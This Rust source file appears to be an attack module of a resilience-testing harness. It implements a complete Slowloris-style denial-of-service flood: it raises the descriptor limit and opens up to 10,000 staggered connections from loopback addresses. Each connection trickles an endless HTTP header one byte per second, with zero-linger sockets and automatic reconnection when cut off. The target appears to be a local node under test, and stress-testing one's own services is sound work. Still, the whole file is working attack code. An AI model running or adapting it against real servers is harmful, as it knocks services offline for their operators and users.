//! Slow HTTP connections: each sends the headers of a request byte by byte and never comes to
//! their end; one that is cut off comes back.

use std::{
    io,
    net::{IpAddr, Ipv4Addr, SocketAddr},
    sync::Arc,
    time::Duration,
};

use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpSocket, TcpStream},
    task::JoinSet,
    time::{Instant, sleep, sleep_until},
};

use super::{Attack, score::Score};
use crate::Result;

/// Connections, if there are descriptors for so many.
const CONNECTIONS: u64 = 10_000;

/// Descriptors for everything else.
const OTHERS: u64 = 100;

/// From one byte to the next.
const PAUSE: Duration = Duration::from_secs(1);

/// From one connection's begin to the next one's, so that they do not all come at once.
const STAGGER: Duration = Duration::from_micros(200);

/// Loopback addresses to come from: one alone has too few ports for all who come back.
const SOURCES: u64 = 16;

pub(super) async fn flood(attack: &Attack, score: &Arc<Score>, end: Instant) -> Result<()> {
    let connections = CONNECTIONS.min(raise_descriptors()?.saturating_sub(OTHERS));
    let mut running = JoinSet::new();
    for number in 0..connections {
        let begin = Instant::now() + STAGGER * number as u32;
        let source = Ipv4Addr::new(127, 0, 1, (number % SOURCES) as u8 + 1);
        let (node, score) = (attack.http, Arc::clone(score));
        running.spawn(async move {
            sleep_until(begin).await;
            keep_connecting(node, source.into(), &score).await;
        });
    }
    sleep_until(end).await;
    Ok(())
}

/// As many descriptors as the system grants.
fn raise_descriptors() -> io::Result<u64> {
    let maximum = getrlimit(Resource::Nofile).maximum;
    let all = Rlimit {
        current: maximum,
        maximum,
    };
    setrlimit(Resource::Nofile, all)?;
    Ok(maximum.unwrap_or(u64::MAX))
}

async fn keep_connecting(node: SocketAddr, source: IpAddr, score: &Score) {
    loop {
        match connect(node, source).await {
            Ok(mut stream) => {
                let open = score.begin();
                open.end(dawdle(&mut stream).await);
            }
            Err(_) => {
                score.begin().end("not connected");
                sleep(PAUSE).await;
            }
        }
    }
}

async fn connect(node: SocketAddr, source: IpAddr) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    // No port stays behind in TIME_WAIT.
    socket.set_zero_linger()?;
    socket.bind(SocketAddr::new(source, 0))?;
    socket.connect(node).await
}

/// Sends a header byte by byte until the node has had enough.
async fn dawdle(stream: &mut TcpStream) -> &'static str {
    if stream
        .write_all(b"POST / HTTP/1.1\r\nX-Slow: ")
        .await
        .is_err()
    {
        return "cut off";
    }
    let mut byte = [0];
    loop {
        tokio::select! {
            read = stream.read(&mut byte) => match read {
                Ok(0) | Err(_) => return "cut off",
                Ok(_) => return "answered",
            },
            () = sleep(PAUSE) => {}
        }
        if stream.write_all(b"a").await.is_err() {
            return "cut off";
        }
    }
}
